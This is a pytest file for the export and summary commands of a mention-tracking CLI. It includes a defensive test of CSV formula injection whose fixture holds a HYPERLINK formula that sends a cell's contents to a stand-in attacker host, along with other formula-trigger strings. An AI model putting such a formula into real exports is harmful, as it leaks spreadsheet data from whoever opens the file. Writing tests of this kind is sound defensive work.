"""`mentionops export` (CSV and JSON Lines for BI tools) and `mentionops summary` in a terminal;
the schema opens as plain tables with sqlite-utils."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from click.testing import CliRunner
from sqlite_utils import Database

from bot.cli import main
from bot.models import Mention, Score
from storage import Store
from storage.reports import EXPORT_COLUMNS, csv_row
from tests.support import write_config
from tests.test_summary import Clock, Seeder


@pytest.fixture
def env(tmp_path, monkeypatch):
    for name in ("MENTIONOPS_CONFIG", "MENTIONOPS_DB", "SLACK_BOT_TOKEN", "SLACK_API_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)
    now = datetime.now(UTC).replace(microsecond=0)
    clock = Clock(now)
    store = Store(tmp_path / "e.db", clock=clock)
    store.migrate()
    s = Seeder(store, clock)
    first = s.mention(now - timedelta(hours=3), text="Acme charged me twice, refund", urgent=True)
    s.do(now - timedelta(hours=3) + timedelta(minutes=7), "claim", first, "U0ALICE")
    s.do(now - timedelta(hours=2), "resolve", first, "U0ALICE")
    s.mention(now - timedelta(hours=2), text='Acme "quoted", with commas\nand a newline')
    s.mention(now - timedelta(days=40), text="Acme, long ago")
    config = write_config(tmp_path)
    return tmp_path, config, store


def run(*args: str) -> str:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def test_export_csv_to_stdout(env):
    folder, config, store = env
    out = run("--config", str(config), "--db", store.path, "export", "--since", "30d")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert [r["text"] for r in rows] == [
        "Acme charged me twice, refund",
        'Acme "quoted", with commas\nand a newline',
    ]
    first = rows[0]
    assert (first["status"], first["claimed_by"], first["resolved_by"]) == (
        "resolved",
        "U0ALICE",
        "U0ALICE",
    )
    assert first["first_claim_at"] == first["claimed_at"] != ""
    assert first["urgent"] == "True"


def test_export_command_keeps_formula_looking_posts_as_text(env):
    folder, config, store = env
    when = datetime.now(UTC) - timedelta(hours=1)
    post = Mention("x", "formula-1", '=HYPERLINK("x","acme")', created_at=when)
    store.save_batch("x", [(post, Score(10, False, "other", 0.0, []))])
    out = run("--config", str(config), "--db", store.path, "export", "--since", "24h")
    texts = [r["text"] for r in csv.DictReader(io.StringIO(out))]
    assert '\'=HYPERLINK("x","acme")' in texts


def test_csv_cells_that_look_like_formulas_stay_text():
    row = {
        "id": 7,
        "author": "@evil",
        "author_name": "+1 caller",
        "title": "",
        "text": '=HYPERLINK("https://evil.example/?"&A1,"refund")',
        "url": "-2+3",
        "outcome": "\tcmd",
        "channel": "\r=1",
        "sentiment": -0.75,
        "reasons": ["=bad", "billing"],
        "claimed_by": None,
        "urgent": True,
    }
    assert csv_row(row) == {
        "id": 7,
        "author": "'@evil",
        "author_name": "'+1 caller",
        "title": "",
        "text": '\'=HYPERLINK("https://evil.example/?"&A1,"refund")',
        "url": "'-2+3",
        "outcome": "'\tcmd",
        "channel": "'\r=1",
        "sentiment": -0.75,
        "reasons": '["=bad", "billing"]',
        "claimed_by": None,
        "urgent": True,
    }


def test_export_jsonl_to_a_file(env):
    folder, config, store = env
    target = folder / "out.jsonl"
    run("--db", store.path, "export", "--since", "all", "--format", "jsonl", "-o", str(target))
    rows = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 3
    assert rows[0]["text"] == "Acme, long ago"
    assert set(rows[0]) == set(EXPORT_COLUMNS)
    assert rows[1]["urgent"] is True and rows[1]["reasons"] == []
    assert rows[2]["first_claim_at"] is None


def test_export_rolling_hours_and_bad_since(env):
    _, config, store = env
    out = run("--db", store.path, "export", "--since", "150h")
    assert len(list(csv.DictReader(io.StringIO(out)))) == 2
    result = CliRunner().invoke(main, ["--db", store.path, "export", "--since", "soon"])
    assert result.exit_code == 2 and "use today, 24h, 7d, 30d" in result.output


def test_summary_in_the_terminal(env):
    folder, config, store = env
    out = run("--config", str(config), "--db", store.path, "summary", "--since", "24h")
    assert "MENTIONS: THE LAST 24 HOURS" in out.upper()
    assert "Seen 2" in out and "Urgent 1" in out
    assert "Time to claim: median 7 min" in out
    assert "@U0ALICE: 1 claim (median 7 min to claim), 1 resolved" in out
    chart = folder / "c.png"
    run("--db", store.path, "summary", "--since", "7d", "--chart", str(chart))
    assert chart.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_schema_is_plain_tables_for_sqlite_utils(env):
    _, _, store = env
    db = Database(store.path)
    assert {"mentions", "events", "digests", "outbox", "source_health"} <= set(db.table_names())
    assert db["mentions"].count == 3
    assert {"mentions_source_created", "mentions_urgent_created"} <= {
        i.name for i in db["mentions"].indexes
    }
    assert db.query("SELECT count(*) AS n FROM events WHERE action = 'claim'").__next__() == {
        "n": 1
    }
